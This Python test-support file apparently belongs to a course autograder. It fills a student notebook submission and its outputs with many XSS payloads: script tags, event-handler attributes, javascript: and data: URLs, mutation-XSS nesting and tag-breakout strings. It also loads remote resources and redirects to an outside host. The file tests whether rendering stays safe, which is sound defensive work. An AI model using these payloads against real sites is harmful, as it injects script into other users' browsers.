"""A submission, and outputs, in every place of which something wants to run in somebody's browser."""

from __future__ import annotations

import nbformat
from nbformat.v4 import new_markdown_cell, new_output

from support.course import CourseOnDisk
from support.lesson import LINEAR

WRONG_LOSS = "def squared_loss(y_hat, y):\n    return (y_hat - y.reshape(y_hat.shape)) ** 2\n"

PWN = "window.__pwned=1;document.title='pwned';alert('pwned')"
HOSTILE_HTML = (
    f"<script>{PWN}</script>",
    f'<img src=x onerror="{PWN}">',
    f'<svg onload="{PWN}"><script>{PWN}</script><a xlink:href="javascript:{PWN}"><text>t</text></a></svg>',
    f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></table></mtext></math>',
    f'<iframe srcdoc="<script>parent.window.__pwned=1</script>"></iframe><iframe src="javascript:{PWN}"></iframe>',
    f'<object data="javascript:{PWN}"></object><embed src="javascript:{PWN}">',
    f'<a href="javascript:{PWN}" id="hostile-link">click me</a>',
    f'<a href=" java&#10;script:{PWN}">click me too</a> <a href="data:text/html,<script>{PWN}</script>">and me</a>',
    f'<details open ontoggle="{PWN}"><summary>s</summary></details>',
    f'<form action="http://203.0.113.7/" id=summary><input name=body autofocus onfocus="{PWN}"></form>',
    '<meta http-equiv="refresh" content="0;url=http://203.0.113.7/"><base href="http://203.0.113.7/">',
    '<link rel=stylesheet href="http://203.0.113.7/x.css"><style>@import "http://203.0.113.7/y.css"</style>',
    '<img src="http://203.0.113.7/pixel.png"><img src="../../../gradebook.png"><video src="http://203.0.113.7/v">',
    '<p style="position:fixed;inset:0;background:url(http://203.0.113.7/z.png)">cover</p>',
    f"</pre></div></section></title></style></script></textarea><script>{PWN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
)
HOSTILE_MARKDOWN = (
    f"[click](javascript:{PWN}) <javascript:{PWN}> ![x](javascript:{PWN})\n\n# <img src=x onerror={PWN}>",
    f"$\\text{{<img src=x onerror={PWN}>}}$ $$\\href{{javascript:{PWN}}}{{x}}$$ $\\unicode{{<script>{PWN}</script>}}$",
    f"\\begin{{equation}}<script>{PWN}</script>\\end{{equation}}",
    f"| a |\n|---|\n| <script>{PWN}</script> |\n\n```html\n<script>{PWN}</script>\n```\n\n`<script>{PWN}</script>`",
    *HOSTILE_HTML,
)


def submit_hostile(course: CourseOnDisk, student: str) -> None:
    """A submission whose every place holds something that wants to run."""
    path = course.submit(student, {"squared_loss": WRONG_LOSS + f"# </script><script>{PWN}</script>\n"})
    notebook = nbformat.read(path, as_version=4)
    notebook.cells[1:1] = [new_markdown_cell(text) for text in HOSTILE_MARKDOWN]
    nbformat.write(notebook, path)
    (path.parent / "evil.html").write_text(f"<script>{PWN}</script>")
    (path.parent / f"{LINEAR}.html").write_text(f"<script>{PWN}</script>")
    (path.parent / "assets").mkdir()
    (path.parent / "assets" / "page.js").write_text(PWN)


def add_hostile_outputs(course: CourseOnDisk, student: str) -> None:
    """Outputs as an autograded notebook has them that was not made by our judge."""
    path = course.root / "autograded" / student / LINEAR / f"{LINEAR}.ipynb"
    path.chmod(0o644)
    notebook = nbformat.read(path, as_version=4)
    code = next(cell for cell in notebook.cells if cell.cell_type == "code" and "print(" in cell.source)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{PWN}"><script>{PWN}</script></svg>'
    code.outputs = [
        *(new_output("display_data", data={"text/html": text}) for text in HOSTILE_HTML),
        *(new_output("display_data", data={"text/markdown": text}) for text in HOSTILE_MARKDOWN),
        new_output("display_data", data={"image/svg+xml": svg, "text/plain": f"<script>{PWN}</script>"}),
        new_output("display_data", data={"image/png": f'x" onerror="{PWN}', "text/plain": "p"}),
        new_output("display_data", data={"application/javascript": PWN}),
        new_output("display_data", data={"text/latex": f"$\\href{{javascript:{PWN}}}{{x}}<script>{PWN}</script>$"}),
        new_output("stream", name="stdout", text=f"\x1b[31m<script>{PWN}</script>\x1b[0m"),
        new_output("error", ename="Error", evalue=f"<script>{PWN}</script>", traceback=[f"<script>{PWN}</script>"]),
    ]
    nbformat.write(notebook, path)
